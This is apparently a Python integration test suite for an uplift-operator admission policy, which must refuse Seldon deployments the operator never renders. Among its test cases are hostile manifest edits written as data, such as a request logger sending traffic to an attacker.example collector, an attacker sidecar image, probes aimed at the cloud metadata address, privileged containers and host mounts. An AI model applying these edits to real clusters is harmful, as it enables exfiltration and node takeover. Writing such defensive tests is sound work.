"""The ValidatingAdmissionPolicy on the operator's SeldonDeployments, judged by a real API server.

RBAC gives the operator's identity ``create`` and ``patch`` on seldondeployments, and cannot say
what they hold: alone, a stolen operator token has Seldon's controller run pods with any image,
any privileges and any ServiceAccount of the namespace (docs/security.md). The policy
(manifests/seldondeployments-policy.yaml, and the chart's render with allow-lists set) admits
only what ``render.seldon`` makes. On a control plane of this module's own, with Seldon's own
SeldonDeployment CRD and the plain manifests' RBAC, once for each source of the policy:

- before it is applied the operator's identity may create a privileged SeldonDeployment (the
  hole); once applied the API server refuses it with the policy's message;
- the operator's own rendered SeldonDeployment (``SeldonV1Backend.render``, applied by
  ``KubeCluster.apply`` as the operator applies it, under the operator's kubeconfig) is admitted
  on create and on update (a canary added, server-side apply), while an update to a forbidden
  shape, by server-side apply or by merge patch, is refused and changes nothing;
- every container must carry what the Pod Security Standard "restricted" requires of it in its
  own securityContext (``runAsNonRoot`` true, no uid 0, a ``RuntimeDefault`` or ``Localhost``
  seccomp profile, no privilege escalation, every capability dropped): Seldon 1.17.1 replaces
  the pod-level securityContext, so the pod's settings, present or not, stand in for none of
  them, and the rendered containers are admitted whatever the pod's;
- each variation the operator never renders is refused, whichever API version it comes through:
  among them what makes Seldon's executor send data elsewhere (a graph ``endpoint`` or
  ``logger``), what Seldon copies onto the pods and Services (predictor and spec annotations and
  labels, a componentSpec's metadata, ``seldon.io/`` settings), scheduling of the pods' own
  beyond the model's placement (``nodeName``, ``affinity``, ...) and probes or hooks aimed at
  another host; an ``Unconfined`` AppArmor profile once the CRD declares the field (Seldon
  1.17.1's does not: its schema keeps the field out before admission), while probes on the pod's
  own address are admitted;
- the names Seldon names its Services, Deployments and DestinationRules after are held to what
  ``render.naming`` makes: a predictor named ``api`` (Seldon would overwrite Service
  ``<sdep>-api``, whoever's it is) or other than ``v<version>``, two of one name, a predictor
  of two componentSpecs or none, a container of another name than the model's or a second
  container are refused, a second container by both sources before the allow-lists judge it;
- the model's placement (``spec.serving``: ``nodeSelector``, ``tolerations``,
  ``imagePullSecrets``, ``priorityClassName``, rendered into every predictor) is admitted on
  create and update, narrowed: a toleration of every taint (no key, or an empty one) or of a
  control-plane taint (``node-role.kubernetes.io/``), and a ``system-node-critical`` or
  ``system-cluster-critical`` priority class, are refused, in any predictor;
- the chart's allow-lists hold every image and ServiceAccount to ``allowed.*`` as the operator
  does (whole match; the operator's runtime image always passes); the manifests have none;
- the one Secret key the operator mounts (the report token, as a ``secret`` volume listing
  that key) is admitted; a volume of a whole Secret, or of Secrets projected, is refused;
- with ``rbac.secretNames`` set, the chart's policy holds every env ``secretKeyRef`` and every
  ``secret`` volume to the model's own decision key and those names (what the operator
  renders: the serving pods' own MLflow credentials, ``spec.serving.runtimeCredentials``,
  among them; a pull Secret is not, so no model mounts registry credentials), and
  with ``allowed.imagePullSecrets`` set every ``imagePullSecrets`` name to those names (the
  operator's ``--allowed-image-pull-secret``), a Secret of ``rbac.secretNames`` included; the
  manifests do not (docs/security.md says so);
- nobody else is judged: the administrator creates a privileged SeldonDeployment, and Seldon's
  status writes (another identity, the status subresource) go through. The operator never
  writes a SeldonDeployment's status (no RBAC for it); kopf only watches them.
"""

from __future__ import annotations

import contextlib
import copy
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.support import policies
from tests.support.kube import Kubectl

from uplift_operator.adapters.kube import KubeCluster, KubeError
from uplift_operator.devenv.controlplane import ControlPlane
from uplift_operator.devenv.seldon_crd import CRD_NAME, seldon_crd
from uplift_operator.devenv.seldon_standin import seldon_status
from uplift_operator.render import naming
from uplift_operator.render.seldon import SeldonV1Backend
from uplift_operator.render.serving import RuntimeSettings, TrafficSplit
from uplift_operator.services.upliftmodel import DECIDED_ON
from uplift_operator.settings import OperatorConfig

pytestmark = [pytest.mark.integration, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[3]
NAMESPACE = "team-a"
BACKEND = SeldonV1Backend()
PLURAL = BACKEND.plural
POLICY = "uplift-operator-seldondeployments"
DENIED = f"ValidatingAdmissionPolicy '{POLICY}' with binding '{POLICY}' denied request: "
OWNER = ("the uplift-operator ServiceAccount may create only SeldonDeployments with one owner "
         "reference, the controller reference to the UpliftModel of the same name")
GRAPH = ("a SeldonDeployment of the uplift-operator ServiceAccount serves each predictor from its "
         "componentSpecs alone: one graph node, of type MODEL and named as the SeldonDeployment, "
         "with no children, implementation (prepackaged server), modelUri, "
         "storageInitializerImage, serviceAccountName, envSecretRefName, endpoint, logger, "
         "parameters or methods")
PREDICTORS = ("the predictors of a SeldonDeployment of the uplift-operator ServiceAccount hold "
              "only a name, traffic, replicas, a graph, componentSpecs of a pod spec alone, "
              "annotations keyed version or uplift.dev/ and labels keyed uplift.dev/ (no "
              "explainer, shadow, svcOrchSpec, ssl or engineResources; no componentSpecs "
              "metadata, hpaSpec, kedaSpec, pdbSpec or replicas)")
SPEC = ("a SeldonDeployment of the uplift-operator ServiceAccount sets only protocol, transport "
        "and predictors in its spec (no spec.annotations, which Seldon copies onto every pod) "
        "and no seldon.io/ annotation (Seldon's ingress, Service and executor settings)")
VOLUMES = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount mount only "
           "emptyDir, configMap and secret volumes, a secret volume only the keys its items "
           "list (no hostPath, no projected token, no whole Secret)")
POD = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount run as rendered: no "
       "host network, PID or IPC, automountServiceAccountToken false, and a pod securityContext "
       "with no runAsNonRoot false, uid 0, Unconfined seccomp or AppArmor profile, sysctls or "
       "seLinuxOptions")
CONTAINERS = ("every container of a SeldonDeployment of the uplift-operator ServiceAccount runs "
              "as rendered: not privileged, no capability added, no Unconfined AppArmor "
              "profile, no procMount, seLinuxOptions or host ports")
RESTRICTED = ("every container of a SeldonDeployment of the uplift-operator ServiceAccount sets "
              "in its own securityContext, as rendered, what the Pod Security Standard "
              '"restricted" requires: allowPrivilegeEscalation false, capabilities drop ALL, '
              "runAsNonRoot true and no runAsUser 0, seccompProfile type RuntimeDefault or "
              "Localhost (Seldon replaces the pod's securityContext, so the pod's settings do "
              "not count)")
ENV_FROM = ("the containers of a SeldonDeployment of the uplift-operator ServiceAccount take no "
            "envFrom: the operator renders none, and it would bring every key of a Secret into "
            "the environment")
PROBES = ("no probe or lifecycle hook of a SeldonDeployment of the uplift-operator "
          "ServiceAccount names a host (httpGet.host, tcpSocket.host): the kubelet would "
          "connect there from the node")
POD_FIELDS = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount set only "
              "containers, volumes, securityContext, serviceAccountName, "
              "automountServiceAccountToken, terminationGracePeriodSeconds, nodeSelector, "
              "tolerations, imagePullSecrets and priorityClassName, as rendered: no nodeName, "
              "affinity, schedulerName, runtimeClassName, hostAliases, dnsConfig or init "
              "containers")
TOLERATIONS = ("every toleration of a SeldonDeployment of the uplift-operator ServiceAccount "
               "names a taint key (none tolerates every taint) outside node-role.kubernetes.io/ "
               "(the control plane's taints)")
PRIORITY = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount take no "
            "system-node-critical or system-cluster-critical priority class")
PULL_SECRETS = ("every imagePullSecrets name of a SeldonDeployment of the uplift-operator "
                "ServiceAccount is one of allowed.imagePullSecrets")
IMAGES = ("every image of a SeldonDeployment of the uplift-operator ServiceAccount is the "
          "operator's runtime image or matches allowed.runtimeImages")
ACCOUNTS = ("every serviceAccountName of a SeldonDeployment of the uplift-operator "
            "ServiceAccount matches allowed.serviceAccounts")
SECRET_REFS = ("every env secretKeyRef and secret volume of a SeldonDeployment of the "
               "uplift-operator ServiceAccount names its own decision key or one of "
               "rbac.secretNames")
NAMES = ("the predictors of a SeldonDeployment of the uplift-operator ServiceAccount are named "
         "as rendered, after which Seldon names the Services, Deployments and DestinationRules "
         "it makes (taking over a Service of such a name): each named v and a model version (a "
         "positive integer), no two alike, with one componentSpec of one container named as the "
         "SeldonDeployment")

#: The chart's runtime image (runtimeImage empty: the operator's default, of its own release;
#: always allowed) and the allow-lists the chart's policy is rendered with here.
DEFAULT_IMAGE: str = OperatorConfig.runtime_image
ALLOWED_IMAGES = [r"ghcr\.io/uplift-dev/uplift-runtime-canary:.*"]
ALLOWED_ACCOUNTS = ["uplift-serving"]
#: The Secrets _runtime's model names (its MLflow credentials, its report token).
SECRET_NAMES = ["mlflow-credentials", "report-senders"]
#: A model's spec.serving.runtimeCredentials: the serving pods' own (READ-only) MLflow user,
#: in rbac.secretNames as the operator reads it to check it; and the same pods' variables taken
#: from it (services.upliftmodel _runtime_credential_env).
RUNTIME_SECRET = "mlflow-reader"
READER_ENV = (("MLFLOW_TRACKING_USERNAME", RUNTIME_SECRET, "username"),
              ("MLFLOW_TRACKING_PASSWORD", RUNTIME_SECRET, "password"))
#: The pull Secret PLACEMENT names: the chart's allowed.imagePullSecrets (not in rbac.secretNames).
PULL_SECRET_NAMES = ["registry-pull"]
#: spec.serving placement as services.upliftmodel passes it (RuntimeSettings.placement), within
#: what the policy admits: a toleration by key and value, one by key alone (Exists).
PLACEMENT: dict[str, Any] = {
    "nodeSelector": {"node.kubernetes.io/pool": "inference"},
    "tolerations": [
        {"key": "dedicated", "operator": "Equal", "value": "inference", "effect": "NoSchedule"},
        {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute",
         "tolerationSeconds": 60}],
    "imagePullSecrets": [{"name": "registry-pull"}],
    "priorityClassName": "inference-high",
}
CANARY_IMAGE = "ghcr.io/uplift-dev/uplift-runtime-canary:0.2.0"
CANARY = TrafficSplit("3", "4", 25)  # two predictors: every rule sees both


def policy_docs(source: str) -> list[dict[str, Any]]:
    # The chart: `helm install uplift -n uplift-system` with the allow-lists (its pull Secret in
    # allowed.imagePullSecrets) and rbac.secretNames (the model's Secrets) set.
    return policies.policy_docs(
        source, "seldondeployments-policy.yaml", "seldondeployments-policy.yaml",
        "--set-json", f"allowed.runtimeImages={json.dumps(ALLOWED_IMAGES)}",
        "--set-json", f"allowed.serviceAccounts={json.dumps(ALLOWED_ACCOUNTS)}",
        "--set-json", f"allowed.imagePullSecrets={json.dumps(PULL_SECRET_NAMES)}",
        "--set-json", f"rbac.secretNames={json.dumps([*SECRET_NAMES, RUNTIME_SECRET])}",
        name=POLICY)


@pytest.fixture(scope="module")
def admin(plane: ControlPlane) -> Kubectl:
    """The CRDs (Seldon's own SeldonDeployment CRD) and the plain manifests' RBAC."""
    return policies.manifests_rbac(plane, NAMESPACE)


def _owner(admin: Kubectl, name: str) -> naming.Owner:
    """A real UpliftModel (made by the administrator), as the operator reads its identity."""
    admin.apply({"apiVersion": "uplift.dev/v1alpha1", "kind": "UpliftModel",
                 "metadata": {"name": name, "namespace": NAMESPACE},
                 "spec": {"model": {"registeredModel": name, "alias": "champion"},
                          "treatments": [{"name": "womens-e-mail"}],
                          "rollout": {"steps": [{"weight": 50}],
                                      "gates": [{"name": "errors", "type": "errorRate",
                                                 "max": 0.05}]}}})
    meta = admin.get("upliftmodel", name, NAMESPACE)["metadata"]
    return naming.Owner(name=meta["name"], namespace=meta["namespace"], uid=meta["uid"])


def _runtime(owner: naming.Owner, **changes: Any) -> RuntimeSettings:
    """What services.upliftmodel gives the renderer for a model that uses every option."""
    settings: dict[str, Any] = {
        "image": DEFAULT_IMAGE, "registered_model": owner.name,
        "tracking_uri": "http://mlflow.mlflow.svc:5000", "replicas": 2,
        "salt": f"{owner.namespace}/{owner.name}", "treatments": ("womens-e-mail",),
        "resources": {"requests": {"cpu": "500m"}, "limits": {"memory": "1Gi"}},
        "credential_env": (("MLFLOW_TRACKING_TOKEN", "mlflow-credentials", "token"),),
        "report_token": ("report-senders", "token"), "service_account_name": "uplift-serving"}
    return RuntimeSettings(**{**settings, **changes})


def _render(owner: naming.Owner, split: TrafficSplit = CANARY, **changes: Any) -> dict[str, Any]:
    return BACKEND.render(owner, _runtime(owner, **changes), split)


def _pod(manifest: dict[str, Any], predictor: int = -1) -> dict[str, Any]:
    spec: dict[str, Any] = manifest["spec"]["predictors"][predictor]["componentSpecs"][0]["spec"]
    return spec


def _container(manifest: dict[str, Any], predictor: int = -1) -> dict[str, Any]:
    container: dict[str, Any] = _pod(manifest, predictor)["containers"][0]
    return container


def _privileged(manifest: dict[str, Any]) -> dict[str, Any]:
    changed = copy.deepcopy(manifest)
    _container(changed)["securityContext"]["privileged"] = True
    return changed


def _privileged_refused(as_operator: Kubectl) -> bool:
    """Whether the API server refuses the operator's identity a privileged SeldonDeployment
    (a server-side dry run: admission judges it, nothing is stored)."""
    owner = naming.Owner(name="probe", namespace=NAMESPACE, uid="00000000-0000-4000-8000-0")
    return policies.refused(as_operator, _privileged(_render(owner)), DENIED + CONTAINERS)


@pytest.fixture(scope="module", params=["manifests", "chart"])
def policy(request: pytest.FixtureRequest, admin: Kubectl, as_operator: Kubectl) -> Iterator[str]:
    """The policy from one source, applied and in force; removed (and out of force) afterwards."""
    source: str = request.param
    with policies.in_force(admin, policy_docs(source),
                           lambda: _privileged_refused(as_operator)):
        yield source


def _refused(operator_cluster: KubeCluster, manifest: dict[str, Any], message: str) -> None:
    with pytest.raises(KubeError) as refused:
        operator_cluster.apply(manifest, PLURAL)
    assert refused.value.status == 403, str(refused.value)
    assert DENIED + message in str(refused.value), str(refused.value)


def test_the_operators_own_seldondeployment_is_admitted_on_create_and_update(
        policy: str, admin: Kubectl, as_operator: Kubectl,
        operator_cluster: KubeCluster) -> None:
    owner = _owner(admin, f"served-{policy}")
    # Create: the stable version alone, as the first pass applies it.
    operator_cluster.apply(_render(owner, TrafficSplit("3")), PLURAL)
    body = admin.get("seldondeployment", owner.name, NAMESPACE)
    assert body["metadata"]["ownerReferences"][0]["uid"] == owner.uid
    # Seldon (another identity, the status subresource) reports it; nothing judges that.
    admin.run("patch", "seldondeployment", owner.name, "-n", NAMESPACE, "--subresource=status",
              "--type=merge", "-p", json.dumps({"status": seldon_status(body)}))
    # Update: a canary added, stamped and applied over the version read, as services.upliftmodel
    # applies it (server-side apply: a PATCH, judged as an UPDATE of the whole new object).
    read = admin.get("seldondeployment", owner.name, NAMESPACE)
    manifest = _render(owner, CANARY)
    manifest["metadata"]["annotations"] = {DECIDED_ON: "12345"}
    manifest["metadata"]["resourceVersion"] = read["metadata"]["resourceVersion"]
    operator_cluster.apply(manifest, PLURAL)
    updated = admin.get("seldondeployment", owner.name, NAMESPACE)
    assert [p["traffic"] for p in updated["spec"]["predictors"]] == [75, 25]
    assert updated["status"]["state"] == "Available"

    # An update to a forbidden shape changes nothing, by server-side apply or by merge patch.
    _refused(operator_cluster, _privileged(_render(owner)), CONTAINERS)
    with pytest.raises(KubeError) as refused:
        operator_cluster.merge_patch(BACKEND.api_version, PLURAL, NAMESPACE, owner.name, {
            "spec": {"predictors": [{**updated["spec"]["predictors"][0], "componentSpecs": [
                {"spec": {**_pod(updated, 0), "hostNetwork": True}}]}]}})
    assert refused.value.status == 403 and DENIED + POD in str(refused.value)
    kept = admin.get("seldondeployment", owner.name, NAMESPACE)
    assert kept["metadata"]["resourceVersion"] == updated["metadata"]["resourceVersion"]
    # kubectl shows the administrator the same message.
    attempt = as_operator.run("apply", "--server-side", "--force-conflicts",
                              "--field-manager=uplift-operator", "-f", "-", check=False,
                              input=json.dumps(_privileged(_render(owner))))
    assert attempt.returncode != 0
    assert (f'seldondeployments.machinelearning.seldon.io "{owner.name}" is forbidden: '
            f"{DENIED}{CONTAINERS}") in attempt.stderr, attempt.stderr


def _change(manifest: dict[str, Any], change: str) -> dict[str, Any]:
    changed = copy.deepcopy(manifest)
    meta, pod, container = changed["metadata"], _pod(changed), _container(changed)
    stable_pod = _pod(changed, 0)
    security = container["securityContext"]
    predictor, graph = changed["spec"]["predictors"][0], changed["spec"]["predictors"][0]["graph"]
    unconfined = {f"container.apparmor.security.beta.kubernetes.io/{container['name']}":
                  "unconfined"}
    metadata_service = "169.254.169.254"  # a cloud's instance metadata, from the node
    edits: dict[str, Callable[[], object]] = {
        "no owner": lambda: meta.pop("ownerReferences"),
        "owner of another kind": lambda: meta["ownerReferences"][0].update(kind="Campaign"),
        "owner of another group": lambda: meta["ownerReferences"][0].update(
            apiVersion="apps/v1"),
        "not the controller": lambda: meta["ownerReferences"][0].update(controller=False),
        "two owners": lambda: meta["ownerReferences"].append(
            {**meta["ownerReferences"][0], "controller": False, "name": "other",
             "uid": "0" * 8}),
        "another model's name": lambda: meta.update(name=f"{meta['name']}-x"),
        "an explainer": lambda: changed["spec"]["predictors"][0].update(explainer={
            "type": "AnchorTabular", "containerSpec": {"name": "explainer", "image": "x/y"}}),
        "a child node": lambda: changed["spec"]["predictors"][0]["graph"].update(children=[
            {"name": "router", "type": "ROUTER", "children": []}]),
        "a prepackaged server": lambda: changed["spec"]["predictors"][0]["graph"].update(
            implementation="SKLEARN_SERVER", modelUri="gs://bucket/model"),
        "a storage initializer image": lambda: changed["spec"]["predictors"][0]["graph"].update(
            storageInitializerImage="x/y"),
        "an extra hostPath volume": lambda: pod["volumes"].append(
            {"name": "host", "hostPath": {"path": "/"}}),
        "a projected token volume": lambda: pod["volumes"].append(
            {"name": "token", "projected": {"sources": [
                {"serviceAccountToken": {"path": "token"}}]}}),
        "a whole Secret's volume": lambda: pod["volumes"].append(
            {"name": "creds", "secret": {"secretName": "mlflow-credentials"}}),
        "the report token's volume made whole": lambda: next(
            v for v in pod["volumes"] if "secret" in v)["secret"].pop("items"),
        "a projected Secret volume": lambda: pod["volumes"].append(
            {"name": "creds", "projected": {"sources": [
                {"secret": {"name": "mlflow-credentials",
                            "items": [{"key": "token", "path": "token"}]}}]}}),
        "host network": lambda: pod.update(hostNetwork=True),
        "host PID": lambda: pod.update(hostPID=True),
        "a mounted token": lambda: pod.update(automountServiceAccountToken=True),
        "the serviceAccount alias": lambda: pod.update(serviceAccount="deployer"),
        "root allowed": lambda: pod["securityContext"].update(runAsNonRoot=False),
        "uid 0": lambda: pod["securityContext"].update(runAsUser=0),
        "an unconfined pod": lambda: pod["securityContext"].update(
            seccompProfile={"type": "Unconfined"}),
        "a privileged container": lambda: security.update(privileged=True),
        "privilege escalation": lambda: security.update(allowPrivilegeEscalation=True),
        "capabilities kept": lambda: security.pop("capabilities"),
        "a capability added": lambda: security["capabilities"].update(add=["SYS_ADMIN"]),
        "a container as root": lambda: security.update(runAsUser=0),
        "an unconfined container": lambda: security.update(
            seccompProfile={"type": "Unconfined"}),
        "a host port": lambda: container.update(
            ports=[{"name": "http", "containerPort": 8080, "hostPort": 80}]),
        "envFrom a Secret": lambda: container.update(
            envFrom=[{"secretRef": {"name": "mlflow-credentials"}}]),
        "a privileged init container": lambda: pod.update(initContainers=[
            {"name": "setup", "image": DEFAULT_IMAGE, "securityContext": {"privileged": True}}]),
        "through v1alpha2": lambda: (changed.update(
            apiVersion="machinelearning.seldon.io/v1alpha2"), security.update(privileged=True)),
        # What Seldon's executor makes of the graph: requests sent on to another host, every
        # request and response logged to a URL.
        "a request logger": lambda: graph.update(
            logger={"url": "http://collector.attacker.example/", "mode": "all"}),
        "an endpoint elsewhere": lambda: graph.update(
            endpoint={"service_host": "payments.other-team.svc", "service_port": 8080,
                      "type": "REST"}),
        "graph parameters": lambda: graph.update(
            parameters=[{"name": "x", "type": "STRING", "value": "y"}]),
        "a router node": lambda: graph.update(type="ROUTER"),
        "a graph node of another name": lambda: graph.update(name="other"),
        # What Seldon copies from a predictor onto its pods, Services and executor.
        "the executor's environment": lambda: predictor.update(svcOrchSpec={"env": [
            {"name": "X", "valueFrom": {"secretKeyRef": {"name": "payments-db",
                                                         "key": "password"}}}]}),
        "an ssl Secret": lambda: predictor.update(ssl={"certSecretName": "payments-db"}),
        "a shadow": lambda: predictor.update(shadow=True),
        "a KEDA trigger": lambda: predictor["componentSpecs"][0].update(kedaSpec={
            "triggers": [{"type": "metrics-api", "metadata": {
                "url": f"http://{metadata_service}/", "valueLocation": "x"}}]}),
        "pod annotations": lambda: predictor["componentSpecs"][0].update(
            metadata={"annotations": unconfined}),
        "pod labels": lambda: predictor["componentSpecs"][0].update(
            metadata={"labels": {"app": "payments"}}),
        "a legacy AppArmor annotation": lambda: predictor["annotations"].update(unconfined),
        "a sidecar injector's annotation": lambda: predictor["annotations"].update(
            {"sidecar.istio.io/proxyImage": "attacker.example/proxy"}),
        "a predictor label": lambda: predictor["labels"].update(app="payments"),
        "a Service of another name": lambda: predictor["annotations"].update(
            {"seldon.io/svc-name": "payments"}),
        # What Seldon copies onto every pod and reads its settings from.
        "spec annotations": lambda: changed["spec"].update(
            annotations={"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}),
        "a Seldon setting": lambda: meta.update(
            annotations={"seldon.io/ambassador-config": "prefix: /"}),
        "an ingress host": lambda: meta.update(
            annotations={"seldon.io/istio-host": "payments.example.com"}),
        # Probes and hooks the kubelet would aim elsewhere.
        "a probe at another host": lambda: container.update(livenessProbe={
            "httpGet": {"host": metadata_service, "port": 80, "path": "/latest/meta-data/"}}),
        "a TCP probe at another host": lambda: container.update(readinessProbe={
            "tcpSocket": {"host": "kubernetes.default.svc", "port": 443}}),
        "a startup probe at another host": lambda: container.update(startupProbe={
            "httpGet": {"host": metadata_service, "port": 80}}),
        "a hook at another host": lambda: container["lifecycle"].update(postStart={
            "httpGet": {"host": metadata_service, "port": 80, "path": "/"}}),
        # Pod fields the operator never renders.
        "a node name": lambda: pod.update(nodeName="control-plane-1"),
        "control-plane tolerations": lambda: pod.update(tolerations=[
            {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists",
             "effect": "NoSchedule"}]),
        # Placement beyond what the policy admits of spec.serving's.
        "a legacy master toleration": lambda: pod.update(tolerations=[
            {"key": "node-role.kubernetes.io/master", "operator": "Equal", "value": "",
             "effect": "NoSchedule"}]),
        "a toleration of every taint": lambda: pod.update(tolerations=[{"operator": "Exists"}]),
        "a toleration of every taint by an empty key": lambda: pod.update(tolerations=[
            {"key": "", "operator": "Exists", "effect": "NoExecute"}]),
        "a toleration of every taint after an admitted one": lambda: pod.update(
            tolerations=[*copy.deepcopy(PLACEMENT["tolerations"]), {"operator": "Exists"}]),
        "the stable's pods tolerating every taint": lambda: stable_pod.update(
            tolerations=[{"operator": "Exists"}]),
        "a system-cluster-critical class": lambda: pod.update(
            priorityClassName="system-cluster-critical"),
        "the stable's pods system-node-critical": lambda: stable_pod.update(
            priorityClassName="system-node-critical"),
        "node affinity": lambda: pod.update(affinity={"nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                {"matchExpressions": [{"key": "kubernetes.io/hostname", "operator": "In",
                                       "values": ["node-1"]}]}]}}}),
        "host aliases": lambda: pod.update(hostAliases=[
            {"ip": "203.0.113.7", "hostnames": ["mlflow.mlflow.svc"]}]),
        "another scheduler": lambda: pod.update(schedulerName="my-scheduler"),
        "a system-node-critical class": lambda: pod.update(
            priorityClassName="system-node-critical"),
        "a runtime class": lambda: pod.update(runtimeClassName="runc"),
        "DNS of its own": lambda: pod.update(
            dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.7"]}),
        "an init container": lambda: pod.update(initContainers=[
            {k: copy.deepcopy(v) for k, v in container.items() if k != "lifecycle"}
            | {"name": "setup"}]),
        # Names Seldon names its Services, Deployments and DestinationRules after: a predictor
        # named `api` makes Seldon overwrite Service <sdep>-api, whoever's it is.
        "a predictor named api": lambda: predictor.update(name="api"),
        "a predictor named after a version and more": lambda: predictor.update(name="v3-api"),
        "a version of a leading zero": lambda: predictor.update(name="v03"),
        "two predictors of one name": lambda: predictor.update(
            name=changed["spec"]["predictors"][1]["name"]),
        "two componentSpecs": lambda: predictor["componentSpecs"].append(
            copy.deepcopy(predictor["componentSpecs"][0])),
        "no componentSpec": lambda: predictor.update(componentSpecs=[]),
        "a container of another name": lambda: container.update(name="api"),
        "a second container": lambda: pod["containers"].append(
            {**copy.deepcopy(container), "name": "sidecar"}),
    }
    edits[change]()
    return changed


@pytest.mark.parametrize(("change", "message"), [
    ("no owner", OWNER),
    ("owner of another kind", OWNER),
    ("owner of another group", OWNER),
    ("not the controller", OWNER),
    ("two owners", OWNER),
    ("another model's name", OWNER),
    ("an explainer", PREDICTORS),
    ("a child node", GRAPH),
    ("a prepackaged server", GRAPH),
    ("a storage initializer image", GRAPH),
    ("a request logger", GRAPH),
    ("an endpoint elsewhere", GRAPH),
    ("graph parameters", GRAPH),
    ("a router node", GRAPH),
    ("a graph node of another name", GRAPH),
    ("the executor's environment", PREDICTORS),
    ("an ssl Secret", PREDICTORS),
    ("a shadow", PREDICTORS),
    ("a KEDA trigger", PREDICTORS),
    ("pod annotations", PREDICTORS),
    ("pod labels", PREDICTORS),
    ("a legacy AppArmor annotation", PREDICTORS),
    ("a sidecar injector's annotation", PREDICTORS),
    ("a predictor label", PREDICTORS),
    ("a Service of another name", PREDICTORS),
    ("spec annotations", SPEC),
    ("a Seldon setting", SPEC),
    ("an ingress host", SPEC),
    ("an extra hostPath volume", VOLUMES),
    ("a projected token volume", VOLUMES),
    ("a whole Secret's volume", VOLUMES),
    ("the report token's volume made whole", VOLUMES),
    ("a projected Secret volume", VOLUMES),
    ("host network", POD),
    ("host PID", POD),
    ("a mounted token", POD),
    ("the serviceAccount alias", POD),
    ("root allowed", POD),
    ("uid 0", POD),
    ("an unconfined pod", POD),
    ("a privileged container", CONTAINERS),
    ("privilege escalation", RESTRICTED),
    ("capabilities kept", RESTRICTED),
    ("a capability added", CONTAINERS),
    ("a container as root", RESTRICTED),
    ("an unconfined container", RESTRICTED),
    ("a host port", CONTAINERS),
    ("a privileged init container", CONTAINERS),
    ("through v1alpha2", CONTAINERS),
    ("envFrom a Secret", ENV_FROM),
    ("a probe at another host", PROBES),
    ("a TCP probe at another host", PROBES),
    ("a startup probe at another host", PROBES),
    ("a hook at another host", PROBES),
    ("a node name", POD_FIELDS),
    ("control-plane tolerations", TOLERATIONS),
    ("a legacy master toleration", TOLERATIONS),
    ("a toleration of every taint", TOLERATIONS),
    ("a toleration of every taint by an empty key", TOLERATIONS),
    ("a toleration of every taint after an admitted one", TOLERATIONS),
    ("the stable's pods tolerating every taint", TOLERATIONS),
    ("node affinity", POD_FIELDS),
    ("host aliases", POD_FIELDS),
    ("another scheduler", POD_FIELDS),
    ("a system-node-critical class", PRIORITY),
    ("a system-cluster-critical class", PRIORITY),
    ("the stable's pods system-node-critical", PRIORITY),
    ("a runtime class", POD_FIELDS),
    ("DNS of its own", POD_FIELDS),
    ("an init container", POD_FIELDS),
    ("a predictor named api", NAMES),
    ("a predictor named after a version and more", NAMES),
    ("a version of a leading zero", NAMES),
    ("two predictors of one name", NAMES),
    ("two componentSpecs", NAMES),
    ("no componentSpec", NAMES),
    ("a container of another name", NAMES),
    ("a second container", NAMES),
])
def test_what_the_operator_never_renders_is_refused(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster, change: str,
        message: str) -> None:
    if change == "through v1alpha2" and not seldon_crd(quiet=True)[1]:
        pytest.skip("../shared/seldon is absent: the stand-in CRD serves v1 alone")
    owner = _owner(admin, f"other-{policy}")
    _refused(operator_cluster, _change(_render(owner), change), message)


#: What Seldon 1.17.1 puts in place of the pod-level securityContext of every Deployment it makes
#: (``createDeploymentWithoutEngine``: nil without its ``DEFAULT_USER_ID``, ``runAsUser`` alone
#: with it, 8888 in its chart), and the rendered one, which never reaches the pods.
POD_CONTEXTS: dict[str, Callable[[dict[str, Any]], object]] = {
    "the pod's as rendered": lambda pod: None,
    "no pod securityContext": lambda pod: pod.pop("securityContext"),
    "runAsUser alone on the pod": lambda pod: pod.update(securityContext={"runAsUser": 8888})}
#: A container's own securityContext without what the Pod Security Standard "restricted"
#: requires of it (the pod's would not stand in for it: Seldon replaces the pod's).
LOOSENED: dict[str, Callable[[dict[str, Any]], object]] = {
    "no runAsNonRoot": lambda c: c["securityContext"].pop("runAsNonRoot"),
    "runAsNonRoot false": lambda c: c["securityContext"].update(runAsNonRoot=False),
    "no user at all (the image's)": lambda c: (c["securityContext"].pop("runAsNonRoot"),
                                               c["securityContext"].pop("runAsUser")),
    "runAsUser 0": lambda c: c["securityContext"].update(runAsUser=0),
    "no seccomp profile": lambda c: c["securityContext"].pop("seccompProfile"),
    "an Unconfined seccomp profile": lambda c: c["securityContext"].update(
        seccompProfile={"type": "Unconfined"}),
    "no allowPrivilegeEscalation": lambda c: c["securityContext"].pop(
        "allowPrivilegeEscalation"),
    "no capabilities dropped": lambda c: c["securityContext"].pop("capabilities"),
    "no securityContext": lambda c: c.pop("securityContext"),
}


def _pod_context(manifest: dict[str, Any], pod_context: str) -> dict[str, Any]:
    """``manifest`` with its last predictor's pod securityContext as ``pod_context`` says."""
    changed = copy.deepcopy(manifest)
    POD_CONTEXTS[pod_context](_pod(changed))
    return changed


@pytest.mark.parametrize("pod_context", POD_CONTEXTS)
def test_the_runtime_containers_own_security_is_what_is_admitted(
        policy: str, pod_context: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    """Whatever the pod's securityContext (Seldon replaces it), the rendered containers, which
    carry runAsNonRoot, their user, a seccomp profile, no privilege escalation and every
    capability dropped themselves, are admitted."""
    owner = _owner(admin, f"contained-{policy}")
    rendered = _render(owner)
    security = _container(rendered)["securityContext"]
    assert security["runAsNonRoot"] is True and security["runAsUser"] != 0
    assert security["seccompProfile"] == {"type": "RuntimeDefault"}
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"]["drop"] == ["ALL"]
    manifest = _pod_context(rendered, pod_context)
    operator_cluster.apply(manifest, PLURAL)
    stored = admin.get("seldondeployment", owner.name, NAMESPACE)
    assert _pod(stored).get("securityContext") == _pod(manifest).get("securityContext")
    assert _container(stored)["securityContext"] == security
